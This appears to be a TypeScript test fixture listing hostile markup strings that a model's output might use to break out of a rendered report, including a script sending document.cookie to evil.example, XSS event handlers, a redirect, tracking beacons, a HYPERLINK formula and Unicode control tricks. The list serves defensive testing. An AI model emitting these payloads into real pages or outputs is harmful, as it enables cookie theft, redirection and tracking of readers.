/** What a model may answer to break out of a report that it is put into. */
export const HOSTILE_MARKUP: readonly string[] = [
  '<script>fetch("https://evil.example/?"+document.cookie)</script>',
  '</pre></article></main><img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></style><link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<!-- --!><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '![beacon](https://evil.example/p.png) [click](javascript:alert(1))',
  '```\n<img src=https://evil.example/p.png>\n````\n# not a heading\n`````',
  '~~~\n</details>\n| a | b |\n|---|---|',
  'one\r<b>two</b>\r\nthree \u2028 four \u0000 five',
  '\u202e<tpircs>\u2066 \ud800',
  '=HYPERLINK("https://evil.example","x")',
  '$`\\`&amp;\\|',
];
